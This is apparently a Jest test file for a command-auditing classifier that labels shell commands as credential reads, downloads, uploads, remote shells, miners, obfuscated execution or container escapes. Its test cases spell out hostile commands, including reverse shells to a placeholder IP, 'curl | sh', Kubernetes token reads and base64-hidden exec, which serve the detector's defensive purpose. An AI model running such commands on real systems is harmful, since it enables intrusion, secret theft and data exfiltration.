import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { commandKinds, looksRound, opensShell } from '../../../lib/audit/commands.ts';

describe('sees in', () => {
  test.each<[string, string[]]>([
    ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', ['credentials']],
    ['cat /proc/self/environ', ['credentials']],
    ['curl http://169.254.169.254/latest/api/token', ['metadata']],
    ['nc -e /bin/sh 203.0.113.9 4444', ['remote-shell']],
    ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', ['remote-shell']],
    ['python3 -c import socket,subprocess', ['remote-shell']],
    ['pip install x', ['download']],
    ['curl -o /tmp/x https://203.0.113.9/x', ['download']],
    ['sh -c curl -s https://203.0.113.9/x | sh', ['fetched-script']],
    ['tar cf - /data', ['archive']],
    ['tar -czf - /data', ['archive']],
    ['sh -c tar --create -f - /data', ['archive']],
    ['curl -T /data 203.0.113.9', ['upload']],
    ['aws s3 cp /data s3://x/', ['upload']],
    ['pg_dump -h db shop', ['dump']],
    ['redis-cli -h db --rdb /tmp/x', ['dump']],
    ['./x -o stratum+tcp://203.0.113.9', ['miner']],
    ['sh -c echo aWQ= | base64 -d | sh', ['hidden']],
    ['bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}', ['hidden']],
    ['python3 -c import base64;exec(base64.b64decode(b"aWQ="))', ['hidden']],
    ['ls /var/run/secrets/kubernetes.io/serviceaccount', ['credentials']],
    ['nsenter -t 1 -m sh', ['escape']],
    ['chroot /host sh', ['escape']],
  ])('"%s" %j', (command, kinds) => { expect(commandKinds(command)).toEqual(kinds); });
});

describe('sees nothing in', () => {
  test.each(['', 'sh', 'ls -la /data', 'env', 'node server.js', 'psql -h db shop', 'tar xf x.tar', 'redis-cli ping', 'cat /etc/hosts', 'cat /var/run/secrets/kubernetes.io/serviceaccount/namespace', 'base64 -d /tmp/x', 'top -c'])('"%s"', (command) => {
    expect(commandKinds(command)).toEqual([]);
  });
});

test('reads the beginning of any command, however made', () => {
  const words = fc.constantFrom('tar c ', 'curl -F a', ' -', '|sh', 'nc -', 'python ', 'socket', '\u0000', 'x'.repeat(5000), 'zip ');
  fc.assert(fc.property(fc.array(words, { maxLength: 2000 }).map((parts) => parts.join('')), (command) => { expect(commandKinds(command).length).toBeLessThanOrEqual(10); }));
});

test('knows commands that somebody types into', () => {
  const isShell = (...words: string[]) => opensShell(words);
  expect([isShell('sh'), isShell('/bin/bash', '-il'), isShell('python3'), isShell('sh', '-c', 'clear; (bash || ash || sh)'), isShell('sh', '-c', 'exec /bin/bash')]).not.toContain(false);
  expect([isShell(), isShell('ls'), isShell('sh', '-c', 'date'), isShell('bash', '/run.sh'), isShell('python3', '-c', 'print(1)'), isShell('sh', '-c', 'cat x.sh')]).not.toContain(true);
  expect(isShell('sh', '-c', 'sh '.repeat(100_000))).toBe(false);
});

test('knows commands that ask where one is', () => {
  expect([['id'], ['/usr/bin/env'], ['uname', '-a']].map(looksRound)).toEqual([true, true, true]);
  expect([[], ['ls'], ['/id/x'], ['identify']].map(looksRound)).toEqual([false, false, false, false]);
});
